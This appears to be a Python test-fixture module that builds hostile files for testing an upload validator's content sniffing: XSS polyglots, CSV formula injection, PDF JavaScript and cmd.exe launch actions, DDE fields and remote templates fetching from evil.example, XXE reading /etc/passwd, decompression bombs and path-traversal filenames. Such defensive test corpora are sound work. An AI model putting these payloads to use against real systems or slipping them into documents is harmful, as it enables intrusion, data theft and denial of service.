"""Hostile files for the upload of papers, built here; those of tests/core/documents/test_sniffing.py come to them.

Each names the code with which it is refused, or "kept": then it is served so that it can do nothing.
"""

import gzip
import io
import struct
import zlib
from functools import cache

from tests.core.documents import files
from tests.core.documents.files import (
    REL,
    archive,
    chunk,
    docx,
    heic,
    jpeg,
    link,
    object_stream,
    pdf,
    png,
    relations,
    segment,
    stream,
    xlsx,
)  # fmt: skip

Built = dict[str, tuple[str, bytes, str]]  # what it is: name it is sent under, content, code
SECRET = b"VITRI-10.57N-106.49E"  # a place; nothing that is kept may hold it
SCRIPT = b"<script>alert(1)</script>"


def run(*texts: str) -> str:
    return "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)


def word(body: str, *more, **options) -> bytes:
    return docx(*more, document=f"<w:document><w:body>{body}</w:body></w:document>", **options)


def rel(kind: str, target: str, mode: str = "Internal") -> tuple[str, str]:
    return "word/_rels/document.xml.rels", relations(link(kind, target, mode))


def book(*more: tuple[str, str]) -> bytes:
    return xlsx(*more)


def gps() -> bytes:
    return segment(0xE1, b"Exif\x00\x00MM\x00\x2a" + struct.pack(">I", 8) + struct.pack(">H", 0) + b"\x00" * 4 + SECRET)


def other_kinds() -> Built:
    """What is no paper at all, whatever its name says."""
    return {
        "gif that is a script": ("anh.gif", b"GIF89a/*\x01\x00\x01\x00*/=1;alert(1);", "unknown_kind"),
        "gif named png": ("anh.png", b"GIF89a" + b"\x00" * 40, "unknown_kind"),
        "bmp": ("anh.bmp", b"BM" + struct.pack("<I", 100) + b"\x00" * 90, "unknown_kind"),
        "webp": ("anh.webp", b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 24, "unknown_kind"),
        "tiff": ("anh.tif", b"II*\x00\x08\x00\x00\x00" + b"\x00" * 40, "unknown_kind"),
        "icon": ("anh.ico", b"\x00\x00\x01\x00\x01\x00" + b"\x00" * 60, "unknown_kind"),
        "avif": ("anh.heic", b"\x00\x00\x00\x18ftypavif" + b"\x00" * 30, "unknown_kind"),
        "svg": ("anh.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "unknown_kind"),
        "svg with a declaration, named png": (
            "anh.png",
            b'<?xml version="1.0"?><svg>' + SCRIPT + b"</svg>",
            "unknown_kind",
        ),
        "svg packed": ("anh.svgz", gzip.compress(b"<svg/>"), "unknown_kind"),
        "html named pdf": ("don.pdf", b"<!DOCTYPE html>" + SCRIPT, "unknown_kind"),
        "html named png": ("anh.png", b"<html>" + SCRIPT, "unknown_kind"),
        "html after a mark of order": ("don.html", b"\xef\xbb\xbf<html>" + SCRIPT, "unknown_kind"),
        "html in utf-16": ("don.html", "<html><script>alert(1)</script>".encode("utf-16"), "unknown_kind"),
        "xml with a style sheet": ("don.xml", b'<?xml-stylesheet type="text/xsl" href="#"?><a/>', "unknown_kind"),
        "mail page": ("don.mht", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + SCRIPT, "unknown_kind"),
        "windows application": ("don.hta", b"<hta:application/>" + SCRIPT, "unknown_kind"),
        "windows shortcut": ("don.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60, "unknown_kind"),
        "program for unix": ("don", b"\x7fELF\x02\x01\x01" + b"\x00" * 60, "unknown_kind"),
        "program for windows named docx": ("don.docx", b"MZ\x90\x00" + b"\x00" * 200, "unknown_kind"),
        "program under two extensions": ("don.pdf.exe", b"MZ\x90\x00" + b"\x00" * 200, "unknown_kind"),
        "java class": ("A.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 60, "unknown_kind"),
        "rar": ("don.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 60, "unknown_kind"),
        "7z": ("don.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 60, "unknown_kind"),
        "gzip": ("don.gz", gzip.compress(b"x"), "unknown_kind"),
        "disk": ("don.iso", b"\x00" * 0x8001 + b"CD001" + b"\x00" * 60, "unknown_kind"),
        "spreadsheet of text with a formula": ("so.csv", b"=cmd|' /C calc'!A0,1\n", "unknown_kind"),
        "rich text": ("don.rtf", b"{\\rtf1{\\object\\objautlink}}", "unknown_kind"),
        "postscript": ("don.ps", b"%!PS-Adobe-3.0\n(x) run\n", "unknown_kind"),
        "zip without an end": ("don.docx", docx()[:200], "broken"),
        "nothing": ("don.pdf", b"", "empty"),
        "one byte": ("don.pdf", b"%", "unknown_kind"),
        "page description in a zip": (
            "don.xps",
            archive([("[Content_Types].xml", "<Types/>"), ("FixedDocSeq.fdseq", "")]),
            "unknown_kind",
        ),
        "open document": (
            "don.odt",
            archive([("mimetype", "application/vnd.oasis.opendocument.text")]),
            "unknown_kind",
        ),
        "zip of a zip of a zip": (
            "don.zip",
            archive([("a.zip", archive([("b.zip", archive([("c", b"0" * 10**6)]))]))]),
            "unknown_kind",
        ),
    }


def pictures() -> Built:
    html = b"<html>" + SCRIPT + b"</html>"
    wide = struct.pack(">II", 2**31 - 1, 2**31 - 1)
    speaking = b"JFIF\x00\x01*/=1;alert(1);/*".ljust(0x2F2A - 2, b"\x00")  # its length begins a remark: "/*"
    return {
        "jpeg that is a zip": ("anh.jpg", jpeg(after=docx()), "two_kinds"),
        "jpeg with a page at its head": ("anh.jpg", jpeg(extra=segment(0xFE, html)), "two_kinds"),
        "jpeg with a page far inside": ("anh.jpg", jpeg(extra=segment(0xFE, b"A" * 5000 + html)), "kept"),
        "jpeg that is a script": ("anh.jpg", b"\xff\xd8" + segment(0xE0, speaking) + jpeg()[2:], "kept"),
        "jpeg with the place in Exif": ("anh.jpg", jpeg(extra=gps()), "kept"),
        "jpeg with the place in XMP": (
            "anh.jpg",
            jpeg(extra=segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + SECRET)),
            "kept",
        ),
        "jpeg with the place behind it": ("anh.jpg", jpeg(after=SECRET), "kept"),
        "jpeg with the place in a second picture": ("anh.jpg", jpeg(after=jpeg(extra=gps())), "kept"),
        "jpeg with the place in many segments": ("anh.jpg", jpeg(extra=gps() * 400), "kept"),
        "jpeg of 65,535 × 65,535": ("anh.jpg", jpeg(width=65535, height=65535), "bomb"),
        "jpeg of endless segments": ("anh.jpg", b"\xff\xd8" + segment(0xFE, b"") * 120_000 + b"\xff\xd9", "broken"),
        "jpeg cut": ("anh.jpg", jpeg()[:20], "broken"),
        "jpeg named pdf": ("don.pdf", jpeg(), "kept"),
        "png of 2^31 × 2^31": ("anh.png", png(width=2**31 - 1, height=2**31 - 1), "bomb"),
        "png with the place in a text": ("anh.png", png(extra=chunk(b"tEXt", b"GPS\x00" + SECRET)), "kept"),
        "png with a packed bomb in a text": (
            "anh.png",
            png(extra=chunk(b"zTXt", b"x\x00\x00" + zlib.compress(b"0" * 10**7))),
            "kept",
        ),
        "png with the place in a chunk of its own": ("anh.png", png(extra=chunk(b"prVw", SECRET)), "kept"),
        "png with a page far inside": ("anh.png", png(extra=chunk(b"tEXt", b"A" * 5000 + html)), "kept"),
        "png whose chunk claims four gigabytes": (
            "anh.png",
            png()[:33] + b"\xff\xff\xff\xffIDAT" + b"\x00" * 30,
            "broken",
        ),
        "png without an end": ("anh.png", png()[:-12], "broken"),
        "heic of 2^31 × 2^31": ("anh.heic", heic().replace(struct.pack(">II", 4032, 3024), wide), "bomb"),
        "heic with a box of no size": ("anh.heic", heic(after=b"\x00\x00\x00\x04free"), "broken"),
        "heic with the place in a film": ("anh.heic", heic(after=files.box(b"mpvd", SECRET)), "kept"),
        "heic with a page in it": ("anh.heic", heic(after=files.box(b"free", html)), "two_kinds"),
    }


def papers() -> Built:
    packed = zlib.compress(b"4 0 << /S /JavaScript /JS (app.alert(1)) >>")
    untyped = stream(b"/N 1 /First 4 /Filter /FlateDecode", packed)
    return {
        "pdf with a page at its head": ("don.pdf", pdf(head=b"%PDF-1.4\n<html>" + SCRIPT + b"\n"), "two_kinds"),
        "pdf with a script": ("don.pdf", pdf(b"7 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n"), "active"),
        "pdf with packed objects of no type": ("don.pdf", pdf(untyped), "active"),
        "pdf with packed objects of no type, spelt otherwise": (
            "don.pdf",
            pdf(untyped.replace(b"/First", b"/F#69rst")),
            "hidden",
        ),
        "pdf whose stream begins after a bare return": (
            "don.pdf",
            pdf(untyped.replace(b"stream\n", b"stream\r", 1)),
            "hidden",
        ),
        "pdf that opens another machine's file": (
            "don.pdf",
            pdf(b"7 0 obj\n<< /S /GoToR /F (\\\\\\\\evil\\\\x) >>\nendobj\n"),
            "active",
        ),
        "pdf that starts a program": ("don.pdf", pdf(b"7 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), "active"),
        "pdf with a file in it": ("don.pdf", pdf(stream(b"/Type /EmbeddedFile", b"MZ")), "active"),
        "pdf with a film": ("don.pdf", pdf(b"7 0 obj\n<< /Subtype /RichMedia >>\nendobj\n"), "active"),
        "pdf with a script in packed objects": ("don.pdf", pdf(object_stream(b"<< /JS (x) >>")), "active"),
        "pdf bomb": ("don.pdf", pdf(stream(b"/Filter /FlateDecode", zlib.compress(b"\x00" * (80 * 2**20)))), "bomb"),
        "pdf with 200 bombs": (
            "don.pdf",
            pdf(stream(b"/Filter /FlateDecode", zlib.compress(b"\x00" * (2 * 2**20))) * 200),
            "bomb",
        ),
        "pdf with a password": ("don.pdf", pdf(tail=b"<< /Encrypt 9 0 R >>\n%%EOF\n"), "encrypted"),
        "pdf cut": ("don.pdf", pdf()[:-20], "broken"),
        "pdf named html": ("don.html", pdf(), "kept"),
        "pdf that leads to this machine": (
            "don.pdf",
            pdf(b"7 0 obj\n<< /S /URI /URI (http://127.0.0.1/) >>\nendobj\n"),
            "kept",
        ),
        "docx with macros": ("don.docm", docx(("word/vbaProject.bin", b"x")), "active"),
        "docx with macros named docx": ("don.docx", docx(("word/vbaProject.bin", b"x")), "active"),
        "docx with a field in two halves": ("don.docx", word(run("DDE", "AUTO cmd")), "active"),
        "docx with a field in references": ("don.docx", word(run("&#68;D&#x45;AUTO cmd")), "active"),
        "docx with a field in an attribute": ("don.docx", word('<w:fldSimple w:instr=" DDE cmd"/>'), "active"),
        "docx that fetches a picture": (
            "don.docx",
            word(run('INCLUDEPICTURE "http://evil.example/x.png" \\d')),
            "linked",
        ),
        "docx that fetches a file of another machine": (
            "don.docx",
            word(run("INCLUDETEXT ", "\\\\evil\\x.docx")),
            "linked",
        ),
        "docx with a page as a part": (
            "don.docx",
            word("", ("word/a.xml", "<html/>"), rel("aFChunk", "a.xml")),
            "enclosed",
        ),
        "docx with an object under another name": (
            "don.docx",
            word("", ("word/o.xml", "<o/>"), rel("oleObject", "o.xml")),
            "enclosed",
        ),
        "docx with a template elsewhere": (
            "don.docx",
            word("", rel("attachedTemplate", "http://evil.example/t.dotm", "External")),
            "linked",
        ),
        "docx with a link spelt otherwise": (
            "don.docx",
            word("", rel("image", "http://evil.example/x", "Ext&#x65;rnal")),
            "linked",
        ),
        "docx with a link after a sign": (
            "don.docx",
            word(
                "",
                (
                    "word/_rels/document.xml.rels",
                    relations(
                        f'<Relationship Id="a>b" Type="{REL}/image" Target="//evil.example/x" TargetMode="External"/>'
                    ),
                ),
            ),
            "linked",
        ),
        "docx with an add-in": (
            "don.docx",
            word("", ("word/w.xml", "<w/>"), rel("webextensiontaskpanes", "w.xml")),
            "active",
        ),
        "docx with a file of this machine": (
            "don.docx",
            word("", ("word/a.xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')),
            "broken",
        ),
        "docx with ten million laughs": ("don.docx", word("", ("word/a.xml", laughs())), "broken"),
        "docx in another encoding": (
            "don.docx",
            docx(document='<?xml version="1.0" encoding="IBM037"?><a/>'.encode("cp037")),
            "broken",
        ),
        "docx that claims another encoding": (
            "don.docx",
            docx(document='<?xml version="1.0" encoding="utf-7"?><a/>'),
            "broken",
        ),
        "docx bomb": ("don.docx", word("", ("word/media/a.png", b"\x00" * (110 * 2**20))), "bomb"),
        "docx of three million elements": ("don.docx", word("<a/>" * 3_000_000), "bomb"),
        "docx with a zip in it": ("don.docx", word("", ("word/embeddings/a.zip", archive([("x", "x")]))), "enclosed"),
        "docx with a program": ("don.docx", word("", ("word/embeddings/a.exe", b"MZ")), "enclosed"),
        "docx that leaves its folder": ("don.docx", word("", ("../../../etc/cron.d/x.xml", "<x/>")), "broken"),
        "docx with one name twice": ("don.docx", word("", ("word/Document.xml", "<x/>")), "broken"),
        "docx that is no xml": ("don.docx", docx(document="<w:document>"), "broken"),
        "xlsx with macros": ("so.xlsm", book(("xl/vbaProject.bin", "x")), "active"),
        "xlsx with a macro sheet under another name": (
            "so.xlsx",
            book(
                ("xl/worksheets/sheet2.xml", "<m/>"),
                ("xl/_rels/workbook.xml.rels", relations(link("xlMacrosheet", "worksheets/sheet2.xml", "Internal"))),
            ),
            "active",
        ),
        "xlsx that asks a server": (
            "so.xlsx",
            book(
                ("xl/connections.xml", "<c/>"),
                ("xl/_rels/workbook.xml.rels", relations(link("connections", "connections.xml", "Internal"))),
            ),
            "linked",
        ),
        "xlsx with dde": (
            "so.xlsx",
            book(("xl/externalLinks/externalLink1.xml", '<ddeLink ddeService="cmd"/>')),
            "active",
        ),
        "xlsx with another book": (
            "so.xlsx",
            book(
                (
                    "xl/externalLinks/_rels/externalLink1.xml.rels",
                    relations(link("externalLinkPath", "file:///etc/passwd")),
                )
            ),
            "linked",
        ),
        "xlsx with a file of this machine": (
            "so.xlsx",
            book(("xl/sharedStrings.xml", '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>')),
            "broken",
        ),
        "xlsx bomb": ("so.xlsx", book(("xl/worksheets/sheet1.xml", "<a>" + " " * (110 * 2**20) + "</a>")), "bomb"),
        "docx": ("don.docx", docx(), "kept"),
        "docx named pdf": ("don.pdf", docx(), "kept"),
    }


def laughs() -> str:
    levels = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 8))
    return f'<!DOCTYPE a [<!ENTITY l0 "ha">{levels}]><a>&l7;</a>'


NAMES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\x.pdf",
    "/etc/passwd",
    "C:\\x.pdf",
    "x.pdf\x00.exe",
    "x" * 5000 + ".pdf",
    "\u202egnp.exe",
    "CON.pdf",
    "a\r\nContent-Type: text/html\r\n\r\n<script>.pdf",
    'x".pdf; filename="y.html',
    "<svg onload=alert(1)>.pdf",
    "Giấy khai sinh Đặng Thị Kín 075150001236.pdf",
    ".htaccess",
    "",
    ".",
    "..",
    "%2e%2e%2fx.pdf",
    "x.pdf/",
    "\ufeff.pdf",
    "x.php;.pdf",
)


@cache
def corpus() -> Built:
    return {**other_kinds(), **pictures(), **papers()}


def as_file(name: str, content: bytes) -> io.BytesIO:
    """For the test client."""
    sent = io.BytesIO(content)
    sent.name = name
    return sent
